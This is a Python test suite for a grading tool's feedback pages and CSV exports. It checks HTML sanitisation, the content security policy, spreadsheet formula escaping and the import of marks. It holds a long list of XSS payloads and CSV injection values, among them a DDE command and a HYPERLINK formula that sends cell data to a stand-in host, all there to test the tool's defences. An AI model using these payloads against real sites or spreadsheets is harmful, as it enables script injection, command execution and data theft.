"""Pages that can only be read, tables that hold no formula, and marks that people gave."""

import base64
import csv
import hashlib
import io
import os
import re
import shutil
import time
from html import unescape
from html.parser import HTMLParser

import pytest
from attacks import INJECTION
from small import assignment

from coursework import intake, reports
from coursework.gradebook import (
    GRADED,
    LATE,
    MISSING,
    NOT_RUN,
    SUSPECTED,
    Mark,
    Result,
    Row,
    Store,
)
from coursework.reports import clean, told

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's own


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    return assignment(tmp_path_factory.mktemp("source"))


def cell(kind="markdown", source="It is so.", id="words", printed="", error=""):
    return {"kind": kind, "source": source, "id": id, "printed": printed, "error": error}


def outcomes(twice=2.0, thrice=0.0, says="✗ Not `yet`."):
    return {
        "twice-check": {"points": twice, "most": 2.0, "told": "" if twice else says},
        "thrice-check": {"points": thrice, "most": 1.0, "told": "" if thrice else says},
    }


def row(student="ada", status=GRADED, mark=None, *, result=None, **more):
    about = {"tests": outcomes(), "cells": (cell(),)} | (result or {})
    made = Result(student, "doubling", status, **about, **more)
    return Row(made, {"words": mark or Mark(None, "")} if about["tests"] else {})


def nothing(student="ada", status=MISSING, *remarks):
    return Row(Result(student, "doubling", status, remarks=remarks), {})


def read(table):
    return list(csv.reader(io.StringIO(table, newline="")))


# --- Text that students wrote --------------------------------------------------------------------


class Seen(HTMLParser):
    """The elements of a page and their attributes."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += attributes

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text += data


INJECTIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x/y.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "![x](http://x/y.png)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][1]\n\n[1]: http://x/y 'title\" onmouseover=\"alert(1)'",
    "<javascript:alert(1)>",
    "<http://x/y>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="http://x" onclick="alert(1)" style="position:fixed">x</a>',
    '<p onmouseover="alert(1)" class="said right" id="twice-check">x</p>',
    "<iframe src='http://x'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<style>* { display: none }</style>",
    "<div style='background: url(http://x)'>x</div>",
    "<link rel=stylesheet href=http://x>",
    "<meta http-equiv=refresh content='0;url=http://x'>",
    "<base href=http://x/>",
    "<form action=http://x><input name=a autofocus onfocus=alert(1)><button>x</button></form>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src=http://x></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<video src=x onerror=alert(1)><source src=x></video><audio src=x autoplay></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>",
    "</section></main></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onload=\"alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n"
    "| <img src=x onerror=alert(1)> | x |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b\0 onclick=alert(1)>x</b>",
    "<p title=x lang=ar dir=rtl>x</p><q cite=http://x>x</q><ol start=9><li value=9>x</ol>",
    "<bdo dir=rtl>x</bdo>\u202e",
    "<script>alert(1)</script>" + "x" * reports.LONGEST,
    INJECTION,
]  # fmt: skip


@pytest.mark.parametrize("harm", INJECTIONS, ids=lambda text: text[:60])
def test_what_a_student_wrote_is_shown_and_does_nothing(harm):
    seen = Seen(clean(harm))
    assert {*seen.tags} <= reports.TAGS
    assert seen.attributes == []


def test_nothing_that_acts_is_a_harmless_tag():
    acts = {
        "script",
        "style",
        "iframe",
        "form",
        "input",
        "button",
        "svg",
        "math",
        "object",
        "embed",
    }
    acts |= {"link", "meta", "base", "video", "audio", "template", "textarea", "title", "noscript"}
    acts |= {"a", "img", "map", "area", "bdo"}
    assert not acts & reports.TAGS
    assert "p" in reports.TAGS


def test_markdown_is_shown_as_such_and_its_headings_stand_below_the_page_s_own():
    html = clean("# One\n\n#### Four\n\n*so* **it** `is`\n\n- a\n\n| b |\n|---|\n| c |\n\n$p < q$")
    assert "<h3>One</h3>" in html
    assert "<h6>Four</h6>" in html
    assert "<em>so</em> <strong>it</strong> <code>is</code>" in html
    assert "<li>a</li>" in html
    assert "<td>c</td>" in html
    assert "$p &lt; q$" in html


def test_much_text_takes_no_longer_and_is_shown_plainly():
    harm = "*a <b> " * (intake.LONGEST // 7)
    begun = time.monotonic()
    assert Seen(clean(harm)).text == harm
    assert time.monotonic() - begun < 1.0
    begun = time.monotonic()
    clean("*a " * (reports.LONGEST // 3))
    assert time.monotonic() - begun < 5.0


@pytest.mark.parametrize("harm", [*INJECTIONS, *(f"`{each}` {each}" for each in INJECTIONS)])
def test_what_a_check_quotes_is_text_or_code(harm):
    seen = Seen(told(harm))
    assert {*seen.tags} <= {"code"}
    assert seen.attributes == []


def test_a_check_s_sentence_shows_its_code():
    assert told("With `q < 1` it is") == "With <code>q &lt; 1</code> it is"


# --- The page of feedback ------------------------------------------------------------------------

POLICY = re.compile(r'http-equiv="Content-Security-Policy" content="([^"]*)"')


@pytest.fixture
def pages(small):
    """Both kinds of page, with harm in all that can be told."""
    bad = cell("code", INJECTION, "", INJECTION, INJECTION)
    cells = (
        cell(source=INJECTION),
        bad,
        cell("raw", INJECTION, ""),
        cell("markdown", INJECTION, ""),
    )
    about = {"tests": outcomes(0.0, 0.0, INJECTION), "cells": cells}
    made = row("ada", SUSPECTED, Mark(1.0, INJECTION), result=about, remarks=(INJECTION,))
    return reports.feedback(made, small, INJECTION), reports.summary([made], {"doubling": small})


def test_a_page_forbids_all_but_its_own_style(pages):
    for html in pages:
        (policy,) = map(unescape, POLICY.findall(html))
        (style,) = re.findall(r"<style>(.*?)</style>", html, re.S)
        digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
        assert policy.split("; ") == [
            "default-src 'none'",
            f"style-src 'sha256-{digest}'",
            "base-uri 'none'",
            "form-action 'none'",
        ]
        head = html.split("</head>")[0]
        assert head.index("Content-Security-Policy") < head.index("<title>")


def test_a_page_holds_nothing_that_acts_whatever_is_told(pages):
    for html in pages:
        seen = Seen(html)
        ours = {"html", "head", "meta", "title", "style", "body", "main", "section"}
        ours |= {"a"} if html is pages[0] else {"svg", "rect", "text"}
        assert {*seen.tags} <= reports.TAGS | ours
        assert seen.tags.count("style") == seen.tags.count("title") == 1
        assert seen.tags.count("meta") == 3
        assert not [name for name, _ in seen.attributes if name.startswith("on") or name == "src"]
        assert {value[:1] for name, value in seen.attributes if name == "href"} <= {"#"}
        assert not [name for name, _ in seen.attributes if name == "style"]


def feedback(small, made, name="Ada Abel"):
    return re.sub(r"\s+", " ", reports.feedback(made, small, name))


def test_the_page_says_whose_it_is_and_what_it_came_to(small):
    html = feedback(small, row())
    assert "<h1>Doubling</h1>" in html
    assert "Feedback for Ada Abel. Status: <strong>graded</strong>." in html
    assert "2 of 6 points, without 1 answer in words that nobody has marked yet" in html
    assert '<a href="#words">words</a></td><td class="n">not marked yet</td>' in html


def test_with_all_marked_the_points_are_whole(small):
    html = feedback(small, row(mark=Mark(1.5, "Well <said>.")))
    assert "3.5 of 6 points</p>" in html
    assert "1.5 of 3" in html
    assert "Well &lt;said&gt;." in html


def test_each_test_tells_what_it_says_beside_its_points(small):
    html = feedback(small, row())
    assert 'twice-check</td><td class="n">2 of 2</td><td>✓ Right.</td>' in html
    assert 'thrice-check</td><td class="n">0 of 1</td><td>✗ Not <code>yet</code>.</td>' in html


def test_a_student_s_own_cells_are_shown_with_what_they_did(small):
    cells = (
        cell("code", "print(1 < 2)", "twice", "True\n"),
        cell("code", "1 / 0", "", "", "ZeroDivisionError: x (line 1)"),
        cell("code", "  ", ""),
        cell("code", "start = 7", "given"),
        cell("code", "assert SECRET", "twice-check"),
        cell("markdown", "*So.*", ""),
        cell(source="*Last.*"),
    )
    html = feedback(small, row(result={"cells": cells}))
    assert "<code>print(1 &lt; 2)</code></pre>" in html
    assert '<pre class="printed" tabindex="0">True </pre>' in html
    assert "<strong>This cell stopped</strong>ZeroDivisionError: x (line 1)" in html
    assert "start = 7" not in html
    assert "SECRET" not in html
    assert "<em>So.</em>" in html
    assert '<section id="words" aria-label="words"> <p><em>Last.</em></p>' in html
    assert '<div id="twice-check" class="said right">' in html
    assert html.count("<pre") == 3


def test_of_a_cell_that_is_there_twice_the_last_is_marked(small):
    cells = (cell(source="first"), cell("code", "x", "twice-check"), cell(source="second"))
    html = feedback(small, row(result={"cells": cells}))
    assert html.count('id="words"') == 1
    assert html.index("first") < html.index('id="words"') < html.index("second")


@pytest.mark.parametrize(
    ("made", "says"),
    [
        (nothing("ada", NOT_RUN, "it is no notebook"), "No points: it could not be judged."),
        (nothing("ada", NOT_RUN, "it is <no> notebook"), "it is &lt;no&gt; notebook"),
        (row(status=LATE, late=True), "Status: <strong>late</strong>."),
        (row(status=SUSPECTED, late=True), "<strong>suspected of tampering</strong>, late."),
    ],
)
def test_the_page_says_what_was_odd(small, made, says):
    assert says in feedback(small, made)


# --- Tables --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        '=HYPERLINK("http://x?"&A1,"x")',
        "-2+cmd|' /C calc'!A0",
        "+49 30 1234",
        "--1",
        "-1.",
        "-inf",
    ],
)
def test_a_formula_is_a_text_to_a_spreadsheet(formula):
    assert reports.cell(formula)[0] == "'"
    assert reports.cell(formula)[1:].split() == formula.split()


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("-1", "-1"),
        ("-1.5", "-1.5"),
        (-0.25, "-0.25"),
        (2.0, "2"),
        (7, "7"),
        (None, ""),
        ("", ""),
        ("a=b", "a=b"),
        ("Abel, Ada", "Abel, Ada"),
        ("a\r\nb\rc", "a\nb\nc"),
    ],
)
def test_numbers_and_words_are_left(value, shown):
    assert reports.cell(value) == shown


def test_a_table_comes_back_as_it_was_whatever_is_in_it():
    values = ["a,b", 'a"b', "a\nb", "'a'", "é", ";", " a "]
    assert read(reports.table(["x"] * 7, [values])) == [["x"] * 7, values]
    assert read(reports.table(["x", "y"], [["a\rb", 1]])) == [["x", "y"], ["a\nb", "1"]]


STUDENTS = {
    "ada": {"first_name": "Ada", "last_name": "Abel", "email": "ada@school.example"},
    "12": {"first_name": "", "last_name": "Brandt", "email": ""},
}
MOST = {"doubling": 6.0}


def test_the_table_of_grades_says_all_of_each(small):
    rows = [
        row("ada", LATE, Mark(1.5, ""), late=True, remarks=("one", "two")),
        row("12"),
        nothing("=x", NOT_RUN),
    ]
    head, *lines = read(reports.grades(rows, STUDENTS, MOST))
    assert [dict(zip(head, line, strict=True)) for line in lines] == [
        {
            **{"student": "ada", "last_name": "Abel", "first_name": "Ada"},
            **{"email": "ada@school.example", "assignment": "doubling", "status": "late"},
            **{"late": "yes", "points": "3.5", "most": "6", "not_marked_yet": "0"},
            "remarks": "one; two",
        },
        {
            **{"student": "12", "last_name": "Brandt", "first_name": "", "email": ""},
            **{"assignment": "doubling", "status": "graded", "late": "no", "points": "2"},
            **{"most": "6", "not_marked_yet": "1", "remarks": ""},
        },
        {
            **{"student": "'=x", "last_name": "", "first_name": "", "email": ""},
            **{"assignment": "doubling", "status": "could not be run", "late": "no"},
            **{"points": "", "most": "6", "not_marked_yet": "0", "remarks": ""},
        },
    ]


def other(made, points):
    result = {"tests": {"t": {"points": points, "most": 9.0, "told": ""}}, "cells": ()}
    return Row(Result(made, "arrays", GRADED, **result), {})


def test_canvas_gets_a_line_for_each_student_and_a_column_for_each_assignment():
    rows = [other("ada", 4.0), row("ada"), row("12"), nothing("zoë")]
    assert read(reports.canvas(rows, STUDENTS, MOST | {"arrays": 9.0})) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "arrays", "doubling"],
        ["    Points Possible", "", "", "", "", "9", "6"],
        ["Brandt", "12", "", "12", "", "", "2"],
        ["Abel, Ada", "", "", "ada@school.example", "", "4", "2"],
        ["zoë", "", "", "zoë", "", "", ""],
    ]


def test_moodle_gets_a_line_for_each_student_and_a_column_for_each_assignment():
    rows = [other("ada", 4.0), row("ada"), row("12"), nothing("zoë")]
    assert read(reports.moodle(rows, STUDENTS, MOST)) == [
        ["ID number", "Email address", "arrays", "doubling"],
        ["12", "", "", "2"],
        ["ada", "ada@school.example", "4", "2"],
        ["zoë", "", "", ""],
    ]


# --- Answers in words ----------------------------------------------------------------------------

LONG = "word " * 39_000  # longer than a field that Python's csv reads of itself
WORDS = ["It is so.", "=1+1", "a, “b”\n\n- c;\r\n\td  e\rf", LONG, "", "'quoted'"]


@pytest.fixture(scope="module")
def filled(tmp_path_factory, empty_book, small):
    """A gradebook with an answer of each kind, to be copied."""
    path = tmp_path_factory.mktemp("filled") / "gradebook.db"
    shutil.copy(empty_book, path)
    with Store(f"sqlite:///{path}") as store:
        store.register(small)
        for student, words in zip("abcdef", WORDS, strict=True):
            store.save(row(student, result={"cells": (cell(source=words),)}).result)
        store.save(nothing("g").result)
    return path


@pytest.fixture
def book(tmp_path, filled):
    with Store(f"sqlite:///{shutil.copy(filled, tmp_path)}") as store:
        yield store


def hand_out(book, small, folder):
    reports.put(folder / "written.csv", reports.written(book.rows(), {"doubling": small}))


def entries(path):
    before = csv.field_size_limit(1 << 20)
    with path.open(newline="", encoding="utf-8") as file:
        lines = list(csv.DictReader(file))
    csv.field_size_limit(before)
    return lines


def fill_in(folder, fill):
    """What a person does in a spreadsheet: ``fill(line)`` changes a line as a dict."""
    path = folder / "written.csv"
    lines = entries(path)
    for line in lines:
        fill(line)
    with path.open("w", newline="", encoding="utf-8-sig") as file:
        writer = csv.DictWriter(file, lines[0])
        writer.writeheader()
        writer.writerows(lines)


def take(book, small, folder):
    reports.read_written(book, folder, {"doubling": small})
    return {one.result.student: one.written.get("words") for one in book.rows()}


def test_each_answer_that_can_be_judged_stands_in_the_table_once(book, small, tmp_path):
    hand_out(book, small, tmp_path)
    lines = entries(tmp_path / "written.csv")
    assert [line["student"] for line in lines] == list("abcdef")
    assert {(line["question"], line["most"], line["points"]) for line in lines} == {
        ("words", "3", "")
    }


def test_marks_written_into_the_table_are_taken_over(book, small, tmp_path, capsys):
    hand_out(book, small, tmp_path)
    fill_in(tmp_path, lambda line: line.update(points="2,5", comment=f"Well, {line['student']}."))
    taken = take(book, small, tmp_path)
    assert taken == {s: Mark(2.5, f"Well, {s}.") for s in "abcdef"} | {"g": None}
    hand_out(book, small, tmp_path)
    assert take(book, small, tmp_path) == taken  # and again
    assert not (tmp_path / "written-not-taken.csv").exists()
    assert capsys.readouterr().out == ""


def test_a_comment_that_looks_like_a_formula_comes_back_as_it_was(book, small, tmp_path):
    hand_out(book, small, tmp_path)
    fill_in(tmp_path, lambda line: line.update(points="3", comment="=) well done"))
    assert take(book, small, tmp_path)["a"] == Mark(3.0, "=) well done")
    hand_out(book, small, tmp_path)
    assert take(book, small, tmp_path)["a"] == Mark(3.0, "=) well done")


def test_a_spreadsheet_may_change_ends_of_lines_and_spaces(book, small, tmp_path):
    hand_out(book, small, tmp_path)
    fill_in(
        tmp_path,
        lambda line: line.update(points="1", answer=line["answer"].replace("\n", "\r\n") + " "),
    )
    assert take(book, small, tmp_path)["c"] == Mark(1.0, "")


def test_a_mark_that_is_deleted_is_taken_back(book, small, tmp_path):
    book.mark("a", "doubling", "words", Mark(2.0, "Good."))
    hand_out(book, small, tmp_path)
    fill_in(tmp_path, lambda line: line.update(points=" ", comment=""))
    assert take(book, small, tmp_path)["a"] == Mark(None, "")


@pytest.mark.parametrize("points", ["3.1", "-1", "two", "nan", "inf", "1/2", "2,5,0"])
def test_a_bad_mark_is_named_with_its_line_and_nothing_is_taken(book, small, tmp_path, points):
    hand_out(book, small, tmp_path)
    bad = {"a": "1", "b": points}
    fill_in(tmp_path, lambda line: line.update(points=bad.get(line["student"], "")))
    with pytest.raises(
        ValueError, match=r"written.csv, line 3: points are '.*', not a number from 0 to 3"
    ):
        take(book, small, tmp_path)
    assert all(one.written.get("words", Mark(None, "")).points is None for one in book.rows())


@pytest.mark.parametrize("column", reports.WRITTEN)
def test_a_table_without_a_column_is_refused(book, small, tmp_path, column):
    hand_out(book, small, tmp_path)
    fill_in(tmp_path, lambda line: line.pop(column))
    with pytest.raises(ValueError, match=f"written.csv, line 2: no column {column}"):
        take(book, small, tmp_path)


def test_a_table_with_other_marks_between_its_columns_is_refused(book, small, tmp_path):
    text = reports.written(book.rows(), {"doubling": small})
    reports.put(tmp_path / "written.csv", text.splitlines()[0].replace(",", ";") + "\na;b\n")
    with pytest.raises(ValueError, match="line 2: no column assignment"):
        take(book, small, tmp_path)


def test_marks_for_answers_that_changed_are_kept_apart(book, small, tmp_path, capsys):
    hand_out(book, small, tmp_path)
    fill_in(tmp_path, lambda line: line.update(points="2", comment="Good."))
    book.save(row("a", result={"cells": (cell(source="Now it is not so."),)}).result)
    book.save(nothing("f").result)
    taken = take(book, small, tmp_path)
    assert taken["a"] == Mark(None, "")
    assert taken["b"] == Mark(2.0, "Good.")
    apart = read((tmp_path / "written-not-taken.csv").read_text("utf-8"))
    assert apart == [
        reports.WRITTEN,
        ["doubling", "a", "words", "It is so.", "3", "2", "Good."],
    ]
    assert "1 marks are for answers that have changed since" in capsys.readouterr().out
    assert taken["f"] == Mark(2.0, "Good.")  # kept, for the file that is away may come back
    hand_out(book, small, tmp_path)
    fill_in(tmp_path, lambda line: line.update(student="x", points="1"))
    take(book, small, tmp_path)
    assert read((tmp_path / "written-not-taken.csv").read_text("utf-8"))[: len(apart)] == apart


def test_a_line_without_a_mark_for_an_answer_that_changed_is_nothing(book, small, tmp_path, capsys):
    hand_out(book, small, tmp_path)
    book.save(row("a", result={"cells": (cell(source="New."),)}).result)
    take(book, small, tmp_path)
    assert not (tmp_path / "written-not-taken.csv").exists()
    assert capsys.readouterr().out == ""


@pytest.mark.parametrize("change", [{"student": "x"}, {"question": "x"}, {"assignment": "x"}])
def test_a_mark_for_nobody_is_kept_apart_too(book, small, tmp_path, change):
    hand_out(book, small, tmp_path)
    fill_in(tmp_path, lambda line: line.update(change, points="1"))
    assert set(take(book, small, tmp_path).values()) == {Mark(None, ""), None}
    assert len(read((tmp_path / "written-not-taken.csv").read_text("utf-8"))) == 7


def test_without_a_table_there_is_nothing_to_take(book, small, tmp_path):
    assert take(book, small, tmp_path)["a"] == Mark(None, "")


# --- Summary -------------------------------------------------------------------------------------


def test_the_summary_counts(small):
    rows = [
        row("a", mark=Mark(3.0, "")),
        row("b", LATE, late=True),
        row("c", result={"tests": outcomes(0.0, 1.0)}),
        row("d", result={"tests": outcomes(0.0, 0.0, "✗ <b>")}, remarks=("the cell x is missing",)),
        nothing("e"),
        nothing("f", NOT_RUN, "it is no notebook"),
    ]
    html = re.sub(r"\s+", " ", reports.summary(rows, {"doubling": small}))
    assert "3 graded, 1 late, 1 missing, 1 could not be run." in html
    assert "Mean so far: 2.0 of 6 points." in html  # 5, 2, 1 and 0
    assert "Without 3 answers in words that are not marked yet" in html
    assert "1 with 0, 1 with 1, 1 with 2, 1 with 5." in html
    hardest = re.findall(
        r"<td>([\w-]+)</td><td class=\"n\">\d</td><td class=\"n\">(\d of \d)", html
    )
    assert hardest == [("thrice-check", "1 of 4"), ("twice-check", "2 of 4")]
    wrong = re.findall(r'<td class="n">(\d)</td><td>([\w-]+)</td><td>(.*?)</td>', html)
    assert wrong == [
        ("2", "thrice-check", "✗ Not <code>yet</code>."),
        ("1", "thrice-check", "✗ &lt;b&gt;"),
        ("1", "twice-check", "✗ &lt;b&gt;"),
        ("1", "twice-check", "✗ Not <code>yet</code>."),
    ]
    look = html.split("To look at")[1]
    assert re.findall(r"<tr><td>(\w)</td><td>([\w ]+)</td><td>(.*?)</td>", look) == [
        ("d", "graded", "the cell x is missing"),
        ("e", "missing", ""),
        ("f", "could not be run", "it is no notebook"),
    ]


def test_a_class_of_whom_nobody_handed_in_has_a_summary(small):
    html = reports.summary([nothing("a"), nothing("b")], {"doubling": small})
    assert "2 missing." in html
    assert "Mean" not in html
    assert "Passed" not in html


def test_bars_stand_for_all_points_and_the_tallest_is_whole():
    bars = reports.bars([0.0, 2.0, 2.9, 3.0, 2.5], 4.0)
    assert [(bar["points"], bar["count"], bar["height"]) for bar in bars] == [
        (0, 1, 33),
        (1, 0, 0),
        (2, 3, 100),
        (3, 1, 33),
        (4, 0, 0),
    ]
    assert [bar["height"] for bar in reports.bars([], 1.0)] == [0, 0]


# --- All of it -----------------------------------------------------------------------------------


def test_everything_is_written_for_those_who_handed_in(book, small, tmp_path):
    book.add_students([{"id": "a", "first_name": "Ada", "last_name": "Abel"}])
    folder = tmp_path / "out"
    reports.write(book, {"doubling": small}, folder)
    made = sorted(str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file())
    pages = [f"feedback/{student}/doubling.html" for student in "abcdef"]
    tables = ["canvas.csv", *pages, "grades.csv", "moodle.csv", "summary.html", "written.csv"]
    assert made == tables
    assert "Feedback for Ada Abel." in (folder / pages[0]).read_text("utf-8")
    assert "Feedback for b." in (folder / pages[1]).read_text("utf-8")
    before = {path: path.stat().st_mtime_ns for path in folder.rglob("*")}
    reports.write(book, {"doubling": small}, folder)
    assert {path: path.stat().st_mtime_ns for path in folder.rglob("*")} == before


def test_a_file_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
    path = tmp_path / "new" / "a.csv"
    reports.put(path, "old")
    with monkeypatch.context() as patch:
        patch.setattr(os, "replace", lambda *_: 1 / 0)  # cut off at the last moment
        with pytest.raises(ZeroDivisionError):
            reports.put(path, "new" * 1000)
    assert path.read_text() == "old"
    reports.put(path, "new")
    assert path.read_text() == "new"
    assert [one.name for one in path.parent.iterdir()] == ["a.csv"]


def test_a_file_that_would_not_change_is_left_alone(tmp_path, monkeypatch):
    path = tmp_path / "a.csv"
    reports.put(path, "é")
    monkeypatch.setattr(os, "replace", lambda *_: 1 / 0)
    reports.put(path, "é")
